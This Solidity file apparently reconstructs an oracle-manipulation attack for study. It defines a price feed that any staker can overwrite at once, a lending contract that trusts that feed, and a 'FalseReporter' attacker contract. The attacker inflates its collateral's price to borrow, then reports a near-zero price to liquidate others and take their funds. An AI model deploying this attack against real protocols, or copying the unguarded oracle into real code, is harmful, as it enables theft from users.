// SPDX-License-Identifier: MIT OR Apache-2.0
pragma solidity ^0.8.28;

import {Pool} from "../props/Markets.sol";
import {Shop} from "../props/Shop.sol";
import {Token} from "../props/Tokens.sol";

/// Whoever stakes ten may report. A report counts until somebody disputes it.
contract TellorFlex {
    Token public immutable trb;
    uint256 public constant STAKE = 10e18;
    mapping(address => uint256) public staked;
    uint256 public value; // 10^-18 euros for a whole token

    event NewStaker(address indexed staker, uint256 amount);
    event NewReport(uint256 value, address indexed reporter, uint256 time);

    constructor(Token trb_) {
        trb = trb_;
    }

    function depositStake(uint256 amount) external {
        trb.transferFrom(msg.sender, address(this), amount);
        staked[msg.sender] += amount;
        emit NewStaker(msg.sender, amount);
    }

    function submitValue(uint256 value_) external {
        require(staked[msg.sender] >= STAKE, "balance must be greater than stake amount");
        value = value_;
        emit NewReport(value_, msg.sender, block.timestamp);
    }
}

/// Troves in the manner of Liquity: a token is locked, euros are minted.
contract Troves {
    TellorFlex public immutable feed;
    Token public immutable walbt;
    Token public immutable beur = new Token("BEUR", 18);
    mapping(address => uint256) public collateral;
    mapping(address => uint256) public debt;

    event TroveUpdated(address indexed owner, uint256 collateral, uint256 debt);
    event TroveLiquidated(address indexed owner, address indexed liquidator, uint256 debt, uint256 collateral);

    constructor(TellorFlex feed_, Token walbt_) {
        (feed, walbt) = (feed_, walbt_);
    }

    function lock(uint256 amount) external {
        walbt.transferFrom(msg.sender, address(this), amount);
        collateral[msg.sender] += amount;
        emit TroveUpdated(msg.sender, collateral[msg.sender], debt[msg.sender]);
    }

    function borrow(uint256 amount, address to) external {
        debt[msg.sender] += amount;
        require(healthy(msg.sender), "collateral ratio");
        beur.mint(to, amount);
        emit TroveUpdated(msg.sender, collateral[msg.sender], debt[msg.sender]);
    }

    function repay(uint256 amount) external {
        beur.transferFrom(msg.sender, address(this), amount);
        beur.burn(amount);
        debt[msg.sender] -= amount;
        emit TroveUpdated(msg.sender, collateral[msg.sender], debt[msg.sender]);
    }

    /// Pays the debt of a trove that is not healthy, and gets all that is in it.
    function liquidate(address owner) external {
        require(!healthy(owner), "healthy");
        (uint256 owed, uint256 held) = (debt[owner], collateral[owner]);
        (debt[owner], collateral[owner]) = (0, 0);
        beur.transferFrom(msg.sender, address(this), owed);
        beur.burn(owed);
        walbt.transfer(msg.sender, held);
        emit TroveLiquidated(owner, msg.sender, owed, held);
    }

    function healthy(address owner) public view returns (bool) {
        return debt[owner] == 0 || collateral[owner] * feed.value() / 1e18 * 100 >= debt[owner] * 130;
    }
}

/// Reports what it likes: first that its collateral is precious, then that other people's is worthless.
contract FalseReporter {
    function begin(TellorFlex feed, Pool trbPool, Pool walbtPool) private {
        Shop.buy(trbPool, msg.value / 2);
        Shop.buy(walbtPool, msg.value - msg.value / 2);
        feed.trb().approve(address(feed), feed.STAKE());
        feed.depositStake(feed.STAKE());
    }

    function mint(Troves troves, Pool trbPool, Pool walbtPool, uint256 loan) external payable {
        TellorFlex feed = troves.feed();
        if (feed.staked(address(this)) == 0) begin(feed, trbPool, walbtPool);
        feed.submitValue(5_000_000_000e18);
        uint256 mine = 1e17;
        troves.walbt().approve(address(troves), mine);
        troves.lock(mine);
        troves.borrow(loan, address(this));
    }

    function liquidate(Troves troves, address[] calldata owners, address payee) external {
        troves.feed().submitValue(100);
        Token beur = troves.beur();
        beur.approve(address(troves), type(uint256).max);
        for (uint256 i = 0; i < owners.length; i++) troves.liquidate(owners[i]);
        Token walbt = troves.walbt();
        walbt.transfer(payee, walbt.balanceOf(address(this)));
        beur.transfer(payee, beur.balanceOf(address(this)));
    }
}
